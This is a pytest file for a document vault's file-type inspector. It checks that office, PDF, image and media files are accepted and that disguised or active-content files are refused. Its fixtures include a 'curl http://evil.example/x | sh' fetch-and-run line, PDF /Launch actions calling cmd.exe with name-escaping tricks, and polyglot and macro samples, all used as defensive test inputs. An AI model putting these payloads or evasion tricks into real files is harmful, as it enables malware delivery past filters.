"""Typing by content and structure (finding 10 of the security report): each accepted format is parsed
enough to know it is what it claims, and each refusal has its own code."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from integritas.vault import filetypes
from integritas.vault.refused import Refused
from tests.security import samples as s

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(4000)
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n" * 40


def kind_of(data: bytes) -> str:
    return filetypes.inspect(io.BytesIO(data)).content_type


def refused(data: bytes) -> Refused:
    with pytest.raises(Refused) as caught:
        filetypes.inspect(io.BytesIO(data))
    return caught.value


ACCEPTED = [
    ("pdf", lambda: s.pdf(), "application/pdf"),
    ("pdf with a link in an object stream", lambda: s.pdf(b"<</Type/Catalog>>", s.object_stream(b"<</S/URI/URI(https://x.id)>>")), "application/pdf"),
    ("docx", lambda: s.ooxml("docx"), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("xlsx", lambda: s.ooxml("xlsx", {"xl/printerSettings/printerSettings1.bin": b"\x00" * 64}), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("pptx", lambda: s.ooxml("pptx", {"ppt/media/image1.png": b"\x89PNG"}), "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
    ("docx with a chart's workbook", lambda: s.ooxml("docx", {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": s.ooxml("xlsx")}), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("odt", lambda: s.odf(), "application/vnd.oasis.opendocument.text"),
    ("ods", lambda: s.odf(b"application/vnd.oasis.opendocument.spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
    ("doc", lambda: s.ole({"WordDocument": s.WORD_FIB, "1Table": bytes(5000)}), "application/msword"),
    ("xls", lambda: s.ole({"Workbook": s.EXCEL_BOF}), "application/vnd.ms-excel"),
    ("ppt", lambda: s.ole({"PowerPoint Document": s.POWERPOINT, "Current User": bytes(4096)}), "application/vnd.ms-powerpoint"),
    ("jpeg", lambda: s.jpeg(), "image/jpeg"),
    ("png", lambda: s.png_with_text(), "image/png"),
    ("gif", lambda: s.gif_with_comment_and_xmp(), "image/gif"),
    ("webp", lambda: s.webp_with_exif(), "image/webp"),
    ("mp3 with ID3", lambda: s.mp3(), "audio/mpeg"),
    ("mp3 without a tag", lambda: s.mp3(id3=False), "audio/mpeg"),
    ("mp3 with an ID3v1 tag at the end", lambda: s.mp3() + b"TAG" + bytes(125), "audio/mpeg"),
    ("wav", lambda: s.wav(), "audio/wav"),
    ("ogg opus", lambda: s.ogg_opus(), "audio/ogg"),
    ("avi", lambda: s.avi(), "video/x-msvideo"),
    ("webm", lambda: s.webm(), "video/webm"),
    ("mp4", lambda: s.mp4()[0], "video/mp4"),
    ("3gp", lambda: s.mp4(brand=b"3gp4")[0], "video/3gpp"),
    ("m4a", lambda: s.mp4(brand=b"M4A ")[0], "audio/mp4"),
]  # fmt: skip


@pytest.mark.parametrize(("label", "make", "expected"), ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_accepted_formats(label, make, expected):
    assert kind_of(make()) == expected


def docx_smuggling(members: dict[str, bytes]) -> bytes:
    return s.ooxml("docx", members)


REFUSED = [
    # Finding 10 of the report, one by one.
    ("an ELF after an MP3 frame header", lambda: s.MP3_HEADER + ELF, "file_damaged"),
    ("a shell script after an ID3 tag", lambda: b"ID3\x04\x00\x00\x00\x00\x00\x00" + SHELL, "file_damaged"),
    ("a program appended to real MP3 frames", lambda: s.mp3() + ELF * 3, "file_hides_content"),
    ("an installer (MSI) as .doc", lambda: s.ole({"\u4840\u3f3f\u4577": bytes(5000)}, root_clsid=s.MSI_CLSID), "ole_not_document"),
    ("an installer with a WordDocument stream", lambda: s.ole({"WordDocument": s.WORD_FIB}, root_clsid=s.MSI_CLSID), "ole_not_document"),
    ("any other compound file", lambda: s.ole({"Contents": bytes(5000)}), "ole_not_document"),
    ("a WordDocument stream that is not Word's", lambda: s.ole({"WordDocument": b"MZ" + bytes(5000)}), "file_damaged"),
    ("a Word document with macros", lambda: s.ole({"WordDocument": s.WORD_FIB}, storages=("Macros", "VBA")), "document_macros"),
    ("a Word document carrying a packaged file", lambda: s.ole({"WordDocument": s.WORD_FIB, "\x01Ole10Native": b"MZ" * 3000}), "document_program"),
    ("a docx carrying .scr", lambda: docx_smuggling({"payload.scr": b"MZ"}), "document_program"),
    ("a docx carrying .hta", lambda: docx_smuggling({"word/run.hta": b"<script>"}), "document_program"),
    ("a docx carrying .lnk", lambda: docx_smuggling({"x.lnk": b"L\x00\x00\x00"}), "document_program"),
    ("a docx carrying a python script", lambda: docx_smuggling({"p.py": b"import os"}), "document_program"),
    ("a docx carrying an unknown part", lambda: docx_smuggling({"word/payload.dat": b"\x00" * 10}), "document_foreign_part"),
    ("a docx with a part outside the document folders", lambda: docx_smuggling({"tools/readme.xml": b"<x/>"}), "document_foreign_part"),
    ("a docx with vbaProject.bin", lambda: docx_smuggling({"word/vbaProject.bin": b"\xd0\xcf"}), "document_macros"),
    ("a docm (macro-enabled)", lambda: s.ooxml("docm"), "document_macros"),
    ("a docx with an ActiveX control", lambda: docx_smuggling({"word/activeX/activeX1.bin": b"\x00"}), "document_macros"),
    ("a docx with an embedded OLE object", lambda: docx_smuggling({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "document_foreign_part"),
    ("a docx whose embedded workbook carries a program", lambda: docx_smuggling({"word/embeddings/Book.xlsx": s.ooxml("xlsx", {"a.exe": b"MZ"})}), "document_program"),
    ("a docx embedding a docx embedding a docx", lambda: docx_smuggling({"word/embeddings/a.docx": s.ooxml("docx", {"word/embeddings/b.docx": s.ooxml()})}), "document_foreign_part"),
    ("a zip that is no office document", lambda: zipped({"readme.txt": b"hello"}), "file_type_unknown"),
    ("an odt with macros", lambda: s.odf(extra={"Basic/Standard/Module1.xml": b"<script:module/>"}), "document_macros"),
    ("an odt carrying a program", lambda: s.odf(extra={"Pictures/setup.exe": b"MZ"}), "document_program"),
    ("an odt of another kind (drawing)", lambda: s.odf(b"application/vnd.oasis.opendocument.graphics"), "file_type_unknown"),
    ("a PDF /Launch written /L#61unch", lambda: s.pdf(b"<</Type/Action/S/L#61unch/F(cmd.exe)>>"), "pdf_active_content"),
    ("a PDF /Launch", lambda: s.pdf(b"<</Type/Action/S/Launch/F(cmd.exe)>>"), "pdf_active_content"),
    ("a PDF /JavaScript written #4a#61vaScript", lambda: s.pdf(b"<</S/#4a#61vaScript/JS(app.alert(1))>>"), "pdf_active_content"),
    ("a PDF with an attached file", lambda: s.pdf(b"<</Type/Filespec/EF<</F 3 0 R>>>>", b"<</Type/EmbeddedFile>>stream\nMZ\nendstream"), "pdf_active_content"),
    ("a PDF with JavaScript inside an object stream", lambda: s.pdf(b"<</Type/Catalog>>", s.object_stream(b"<</S/JavaScript/JS(app.alert(1))>>")), "pdf_active_content"),
    ("a PDF with /Launch escaped inside an object stream", lambda: s.pdf(b"<</Type/Catalog>>", s.object_stream(b"<</S/#4caunch/F(x.exe)>>")), "pdf_active_content"),
    ("a PDF whose object stream cannot be read", lambda: s.pdf(b"<</Type/Catalog>>", s.object_stream(b"<<>>", filters=b"[/ASCIIHexDecode/FlateDecode]")), "pdf_unreadable"),
    ("a PDF whose object stream is encrypted", lambda: s.pdf(b"<</Type/Catalog>>", b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\n" + bytes(range(256)) + b"\nendstream"), "pdf_unreadable"),
    ("a PDF with XFA forms", lambda: s.pdf(b"<</AcroForm<</XFA 5 0 R>>>>"), "pdf_active_content"),
    ("HTML named .pdf", lambda: b"<!doctype html><script>alert(1)</script>", "file_type_unknown"),
    ("a program", lambda: b"MZ\x90\x00" + bytes(200), "file_type_unknown"),
    ("an ELF", lambda: ELF, "file_type_unknown"),
    ("a JPEG followed by a zip", lambda: s.jpeg() + zipped({"run.sh": b"#!/bin/sh"}), "file_hides_content"),
    ("a GIF with script", lambda: b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;<script>alert(1)</script>", "file_hides_content"),
    ("a PNG with a wrong CRC", lambda: s.png_with_text()[:40] + b"\x00" + s.png_with_text()[41:], "file_damaged"),
    ("a JPEG without a frame", lambda: b"\xff\xd8\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + bytes(100) + b"\xff\xd9", "file_damaged"),
    ("an Ogg stream of nothing known", lambda: s.ogg_page(b"\x01unknown" + bytes(30), seq=0, flags=2), "file_damaged"),
    ("a WAV without data", lambda: s.riff(b"WAVE", [(b"fmt ", bytes(16))]), "file_damaged"),
    ("a WAV with a program after it", lambda: s.wav() + ELF * 2, "file_hides_content"),
    ("an MP4 without moov", lambda: s.box(b"ftyp", body=b"isom\x00\x00\x00\x00") + s.box(b"mdat", body=bytes(100)), "file_damaged"),
    ("an MP4 with a box running past the end", lambda: s.mp4()[0][:-10], "file_damaged"),
    ("an MP4 nested too deep", lambda: deep_mp4(40), "file_damaged"),
    ("a Matroska file", lambda: s.webm(b"matroska"), "file_type_unknown"),
    ("HEIC", lambda: s.box(b"ftyp", body=b"heic\x00\x00\x00\x00mif1heic") + s.box(b"mdat"), "file_type_unknown"),
]  # fmt: skip


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def deep_mp4(levels: int) -> bytes:
    inner = s.box(b"free", body=b"x")
    for _ in range(levels):
        inner = s.box(b"trak", inner)
    moov = s.box(b"moov", inner)
    return s.box(b"ftyp", body=b"isom\x00\x00\x00\x00") + moov + s.box(b"mdat", body=bytes(16))


@pytest.mark.parametrize(("label", "make", "code"), REFUSED, ids=[r[0] for r in REFUSED])
def test_refused_with_its_code(label, make, code):
    assert refused(make()).code == code


def test_a_refused_part_is_named():
    caught = refused(docx_smuggling({"payload.scr": b"MZ"}))
    assert caught.params == {"part": "payload.scr"}
    caught = refused(s.pdf(b"<</S/L#61unch>>"))
    assert caught.params == {"part": "Launch"}
